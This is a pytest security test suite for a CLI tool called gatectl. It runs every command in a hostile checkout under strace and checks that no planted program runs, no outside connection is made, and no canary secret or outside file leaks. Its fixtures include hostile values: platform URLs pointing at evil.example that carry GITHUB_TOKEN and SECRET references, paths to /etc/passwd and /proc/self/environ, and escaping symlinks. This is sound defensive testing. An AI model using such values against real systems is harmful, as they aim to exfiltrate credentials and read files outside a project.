"""A stranger's checkout is taken through every command: nothing of it runs, nobody is called, nothing leaks."""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import subprocess
import sys
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest

from attacks.checkout import MANIFESTS, PLANTS, honest, mark, tripped
from gatectl.cli import COMMANDS
from listening import Listener

CANARIES = {
    "GATECTL_TOKEN": "canary-token", "KEY": "AKIACANARY", "SECRET": "canary-secret", "PGPASSWORD": "canary-database",
    "GITHUB_TOKEN": "canary-forge", "CI_JOB_TOKEN": "canary-job", "AWS_SECRET_ACCESS_KEY": "canary-cloud",
}  # fmt: skip
OUTSIDE = "canary-line-of-a-file-outside"

EVERY: Mapping[str, list[list[str]]] = {
    "init": [["init", "made-{n}"], ["init", "--ci", "github"]],
    "validate": [["validate"], ["validate", "--against", "HEAD~1"], ["validate", "--format", "sarif"]],
    "plan": [
        ["plan", "--format", "html=plan.html", "--out", "plan.json"], ["plan", "--changed-since", "HEAD~1"],
        ["plan", "--format", "json"], ["plan", "--format", "github"],
    ],
    "apply": [["apply", "--yes", "--receipt", "receipt.json"]],
    "show": [["show", "plan.json", "--format", "markdown"]],
    "comment": [["comment", "plan.json", "--provider", "github", "--pull-request", "1"]],
    "export": [["export", "--out", "exported"]],
    "snapshot": [["snapshot", "--out", "snapshot.json"], ["plan", "--against", "snapshot.json"]],
    "graph": [["graph"], ["graph", "--live"]],
    "serve": [["serve", "--help"]],
    "trust": [["trust", "--help"]],
    "schema": [["schema"]],
    "explain": [["explain", "GW301"]],
    "completion": [["completion", "bash"]],
    "history": [["history"]],
    "drift": [["drift"]],
    "why": [["why", "Bucket/raw-aws"]],
    "undo": [["undo", "last"]],
    "lock": [["lock", "status"]],
    "runs": [["runs"]],
    "controller": [["controller", "--fleet", "{fleet}", "--listen", "none"]],
    "status": [["status", "--fleet", "{fleet}"]],
    "approve": [["approve", "theirs", f"sha256:{'0' * 64}", "--fleet", "{fleet}"]],
    "pause": [["pause", "theirs", "--fleet", "{fleet}"]],
    "resume": [["resume", "theirs", "--fleet", "{fleet}"]],
}  # fmt: skip
"""What is run of every command."""
FLEET = ("controller", "status", "approve", "pause", "resume")
AT_THE_TOP = () if os.environ.get("GATECTL_LONG") else ("serve", "trust", "schema", "explain", "completion", *FLEET)
"""What reads nothing of a checkout is taken through it once, where most is planted; with GATECTL_LONG=1, in each folder."""


def refusing(peer: socket.socket) -> None:
    """A proxy, or a server, that only writes down what it is sent."""
    peer.sendall(
        b"HTTP/1.1 401 No\r\nContent-Length: 2\r\nContent-Type: application/json\r\nConnection: close\r\n\r\n{}"
    )


@pytest.fixture
def recorder() -> Iterator[Listener]:
    with Listener(refusing) as made:
        yield made


class Stranger:
    """A hostile checkout, and gatectl run in it by somebody with much to lose, under the eyes of strace."""

    def __init__(self, folder: Path, proxy: int) -> None:
        self.home, self.marks, self.checkout = folder / "home", folder / "marks", folder / "checkout"
        for path in (self.home, self.marks, self.checkout):
            path.mkdir()
        self.outside = folder / "outside.yaml"
        self.outside.write_text(f"{OUTSIDE}: [\nhost: {OUTSIDE}\n")
        self.printed: list[str] = []
        self.calls: list[str] = []
        self._log = folder / "calls"
        self.fleet = folder / "fleet.yaml"
        source = {
            "name": "theirs",
            "git": {"url": str(self.checkout)},
            "platform": f"sqlite:///{folder}/fleet.db",
            "interval": "1s",
        }
        head = {"apiVersion": "gatectl.io/v1", "kind": "Fleet", "metadata": {"name": "acme"}}
        self.fleet.write_text(json.dumps({**head, "spec": {"sources": [source]}}))
        self._count = 0
        self.variables = {
            **CANARIES, "HOME": str(self.home), "PATH": f":.:{os.environ['PATH']}",
            "PYTHONPATH": os.pathsep.join(filter(os.path.isabs, sys.path)),
            "HTTPS_PROXY": f"http://127.0.0.1:{proxy}", "GITHUB_REPOSITORY": "acme/gateway", "LANG": "C.UTF-8",
        }  # fmt: skip

    def run(self, *arguments: str, folder: str = ".") -> int:
        self._count += 1
        arguments = tuple(argument.format(n=self._count, fleet=self.fleet) for argument in arguments)
        python = [sys.executable, "-P", "-m", "gatectl"]
        if arguments[0] == "controller":  # it goes on until it is told to end, a few looks later
            python = ["timeout", "--signal=TERM", "30", *python]
        done = subprocess.run(
            ["strace", "-f", "-qq", "-e", "trace=connect,sendto", "-o", str(self._log), *python, *arguments],
            cwd=self.checkout / folder, env=self.variables, stdin=subprocess.DEVNULL, capture_output=True, timeout=120, check=False,
        )  # fmt: skip
        self.calls += self._log.read_text(errors="replace").splitlines()
        self.printed.append(done.stdout.decode("utf-8", "replace") + done.stderr.decode("utf-8", "replace"))
        return done.returncode

    def everything(self) -> str:
        """All that was printed, and all that was written in the checkout since, but for the platform itself: it keeps a bucket's key."""
        written = []
        for path in self.checkout.rglob("*"):
            if (
                not path.name.startswith("platform.db")
                and path.is_file()
                and not path.is_symlink()
                and ".git" not in path.parts
            ):
                written.append(path.read_bytes().decode("utf-8", "replace"))
        return "\n".join([*self.printed, *written])

    def connected(self) -> list[str]:
        """The connections that were tried beyond loopback (a resolver's is one), as strace saw them."""
        beyond = [
            line for line in self.calls if "sa_family=AF_INET" in line and not re.search(r'"(127\.0\.0\.1|::1)"', line)
        ]
        return beyond + [line for line in self.calls if re.search(r"systemd/resolve|sin_port=htons\(53\)", line)]


@pytest.fixture
def stranger(tmp_path: Path, recorder: Listener) -> Stranger:
    if shutil.which("strace") is None:
        pytest.skip("needs a server of ours: strace, which records connections")
    return Stranger(tmp_path, recorder.port)


def plant_all(stranger: Stranger) -> None:
    honest(stranger.checkout)
    for name, plant in PLANTS.items():
        plant.put(stranger.checkout, mark(stranger.marks, name))


@pytest.mark.parametrize("name", [name for name, plant in PLANTS.items() if plant.control is not None])
def test_each_plant_works_on_who_is_careless(tmp_path: Path, name: str) -> None:
    """The control: without it, nothing running would prove nothing."""
    marks = tmp_path / "marks"
    marks.mkdir()
    folder = honest(tmp_path / "checkout")
    PLANTS[name].put(folder, mark(marks, name))
    environment = {"PATH": os.environ["PATH"], "HOME": str(tmp_path), "LANG": "C.UTF-8"}
    control = PLANTS[name].control
    assert control is not None
    subprocess.run(
        ["bash", "-c", control],
        cwd=folder,
        env=environment,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert tripped(marks) == [name]


def test_every_command_is_taken_through_a_hostile_checkout() -> None:
    assert set(EVERY) == set(COMMANDS)


@pytest.mark.parametrize("folder", [".", "manifests"])
def test_no_program_of_a_checkout_runs_whatever_the_command(
    stranger: Stranger, recorder: Listener, folder: str
) -> None:
    plant_all(stranger)
    ended = {}
    for name, runs in EVERY.items():
        for arguments in runs if folder == "." or name not in AT_THE_TOP else ():
            ended[" ".join(arguments)] = stranger.run(*arguments, folder=folder)
            assert tripped(stranger.marks) == [], name
    assert stranger.connected() == []
    # The code host is named by the CI, or is GitHub's own: `comment` asks for it, through TLS and the proxy of the operator.
    assert all(piece.startswith(b"CONNECT api.github.com:443 ") for piece in recorder.heard)
    assert all(canary not in stranger.everything() for canary in CANARIES.values())
    # The commands did their work: what runs nothing because it stopped at once would prove nothing.
    if folder == ".":
        assert "theirs" in stranger.printed[-4] and "the platform is not the one of source" in stranger.printed[-4]
    assert ended["validate"] == 0 and ended["apply --yes --receipt receipt.json"] == 0, (ended, stranger.printed)


EVIL: Mapping[str, str] = {
    "https": "{platform: 'https://evil.example', token: {env: SECRET}}",
    "https-port": "{platform: 'https://backend.flashback.tech:8443', token: {env: GITHUB_TOKEN}}",
    "https-user": "{platform: 'https://backend.flashback.tech@evil.example', token: {env: SECRET}}",
    "https-suffix": "{platform: 'https://backend.flashback.tech.evil.example', token: {file: ../outside.yaml}}",
    "http-lookalike": "{platform: 'http://127.0.0.1.evil.example', token: {env: SECRET}}",
    "postgresql": "{platform: 'postgresql://evil.example/gateway'}",
    "postgresql-host": "{platform: 'postgresql:///gateway?host=evil.example&hostaddr=192.0.2.1'}",
    "postgresql-service": "{platform: 'postgresql://127.0.0.1/gateway?service=evil&passfile=/etc/passwd'}",
    "loopback": "{platform: 'http://127.0.0.1:PORT', token: {env: SECRET}}",
    "loopback-token-file": "{platform: 'http://127.0.0.1:PORT', token: {file: ../outside.yaml}}",
}
"""Platforms that a pull request could name."""


@pytest.mark.parametrize("name", EVIL)
def test_a_platform_that_a_checkout_names_is_sent_nothing(stranger: Stranger, recorder: Listener, name: str) -> None:
    honest(stranger.checkout)
    environment = EVIL[name].replace("PORT", str(recorder.port))
    (stranger.checkout / "gatectl.yaml").write_text(
        "apiVersion: gatectl.io/v1\nkind: Project\nmetadata: {name: acme}\n"
        f"spec: {{manifests: [manifests], environments: {{default: {environment}}}}}\n"
    )
    codes = [
        stranger.run(*arguments, "--deadline", "20")
        for arguments in (["plan"], ["apply", "--yes"], ["export"], ["snapshot"])
    ]
    assert all(code in (4, 9, 64) for code in codes), (codes, stranger.printed)
    assert stranger.connected() == []
    heard = b"".join(recorder.heard)
    assert b"canary" not in heard and OUTSIDE.encode() not in heard
    if not name.startswith("loopback"):
        assert heard == b""
    everything = stranger.everything()
    assert all(canary not in everything for canary in CANARIES.values()) and OUTSIDE not in everything


NAMED: Mapping[str, str] = {
    "above": "{manifests: ['../outside.yaml']}",
    "folder-above": "{manifests: ['..']}",
    "absolute": "{manifests: ['/etc/passwd', '/etc']}",
    "environment": "{manifests: ['/proc/self/environ']}",
    "link": "{manifests: [linked.yaml]}",
    "link-folder": "{manifests: [linked]}",
    "link-in-manifests": "{manifests: [manifests]}",
    "of-an-environment": "{environments: {default: {platform: embedded, manifests: ['../outside.yaml']}}}",
}
"""Manifests that a project file could name."""


@pytest.mark.parametrize("name", NAMED)
def test_no_line_of_a_file_outside_the_project_is_shown(stranger: Stranger, name: str) -> None:
    honest(stranger.checkout)
    for link, target in (
        ("linked.yaml", "../outside.yaml"),
        ("linked", ".."),
        ("manifests/linked.yaml", "../../outside.yaml"),
    ):
        (stranger.checkout / link).symlink_to(target)
    (stranger.checkout / "gatectl.yaml").write_text(
        f"apiVersion: gatectl.io/v1\nkind: Project\nmetadata: {{name: acme}}\nspec: {NAMED[name]}\n"
    )
    for arguments in (
        ["validate"],
        ["validate", "--format", "sarif"],
        ["plan", "--format", "html=page.html"],
        ["plan", "--format", "json"],
        ["graph"],
    ):
        assert stranger.run(*arguments) != 0
    everything = stranger.everything()
    assert OUTSIDE not in everything and "root:x:0" not in everything
    assert all(canary not in everything for canary in CANARIES.values())


LINKS = ("plan.json", "receipt.json", "page.html", "snapshot.json", ".gatectl", "exported", ".gitlab-ci.yml", ".github")
TOGETHER = (
    ("plan.json", "receipt.json", "snapshot.json", ".github", ".gitlab-ci.yml"),
    ("page.html", "exported"),
    (".gatectl",),
)
"""Those that do not stand in each other's way: each command meets one of them first. With GATECTL_LINKS=1, each by itself."""


@pytest.mark.parametrize(
    "names", [(name,) for name in LINKS] if os.environ.get("GATECTL_LINKS") else TOGETHER, ids=" ".join
)
def test_nothing_is_written_through_a_link_out_of_the_project(stranger: Stranger, names: tuple[str, ...]) -> None:
    honest(stranger.checkout)
    before = stranger.outside.read_bytes()
    for name in names:
        folder = name in (".gatectl", "exported", ".github")
        (stranger.checkout / name).symlink_to(stranger.home if folder else stranger.outside)
    for arguments in (
        ["plan", "--out", "plan.json", "--format", "html=page.html"], ["snapshot", "--out", "snapshot.json"],
        ["export", "--out", "exported"],
        ["apply", "--yes", "--receipt", "receipt.json"], ["init", "--ci", "github"], ["init", "--ci", "gitlab"],
    ):  # fmt: skip
        stranger.run(*arguments)
    assert stranger.outside.read_bytes() == before
    assert [path.name for path in stranger.home.iterdir()] == []


def test_a_reference_of_a_manifest_leads_to_nothing_that_is_not_its_to_name(stranger: Stranger) -> None:
    honest(stranger.checkout)
    references = ("{env: GATECTL_TOKEN}", "{env: GITHUB_TOKEN}", "{env: CI_JOB_TOKEN}", "{file: ../../outside.yaml}", "{file: /etc/passwd}",
                  "{file: linked}", "{env: ACTIONS_ID_TOKEN_REQUEST_TOKEN}")  # fmt: skip
    (stranger.checkout / "manifests" / "linked").symlink_to("../../outside.yaml")
    for reference in references:
        (stranger.checkout / "manifests" / "all.yaml").write_text(MANIFESTS.replace("{env: SECRET}", reference))
        assert stranger.run("validate") == 4, reference
        assert stranger.run("apply", "--yes") == 4, reference
        assert "GW601" in stranger.printed[-1], reference
    assert OUTSIDE not in stranger.everything() and "canary" not in stranger.everything()
